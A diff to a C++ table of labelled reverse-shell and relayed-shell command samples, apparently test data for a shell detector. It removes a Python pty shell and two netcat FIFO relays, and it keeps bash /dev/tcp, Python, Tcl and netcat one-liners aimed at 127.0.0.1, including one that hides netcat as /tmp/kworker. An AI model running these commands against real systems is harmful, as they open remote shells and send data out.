@@ -17,9 +17,6 @@ const std::vector<Form>& shell_forms() {
       {"commands only", "reverse_shell", "bash -c 'exec sh </dev/tcp/127.0.0.1/PORT >/dev/null'"},
       {"a file by redirection", "reverse_shell",
        "bash -c 'cat </etc/hostname >/dev/tcp/127.0.0.1/PORT'"},
-      {"python, a terminal", "reverse_shell relayed_shell",
-       "python3 -c \"import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',PORT));"
-       "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')\""},
       {"python, popen in a loop", "relayed_shell",
        "python3 -c \"import socket,os\ns=socket.create_connection(('127.0.0.1',PORT))\n"
        "s.sendall(os.popen(s.recv(999).decode()).read().encode())\n\""},
@@ -52,13 +49,6 @@ const std::vector<Form>& shell_forms() {
        "echo 'set s [socket 127.0.0.1 PORT];puts -nonewline $s {% };flush $s;gets $s c;puts $s "
        "[exec "
        "sh -c $c];flush $s' | tclsh"},
-      {"busybox nc and a FIFO", "relayed_shell",
-       "rm -f /tmp/q1;mkfifo /tmp/q1;busybox sh </tmp/q1 2>&1 | busybox nc 127.0.0.1 PORT "
-       ">/tmp/q1"},
-      {"two FIFOs", "relayed_shell",
-       "rm -f /tmp/q2 /tmp/q3;mkfifo /tmp/q2 /tmp/q3;nc.traditional 127.0.0.1 PORT </tmp/q3 "
-       ">/tmp/q2 & "
-       "sh </tmp/q2 >/tmp/q3 2>&1"},
       {"renamed netcat", "reverse_shell relayed_shell",
        "cp /bin/nc.traditional /tmp/kworker; /tmp/kworker 127.0.0.1 PORT -e /bin/sh"},
       {"renamed static shell", "reverse_shell",
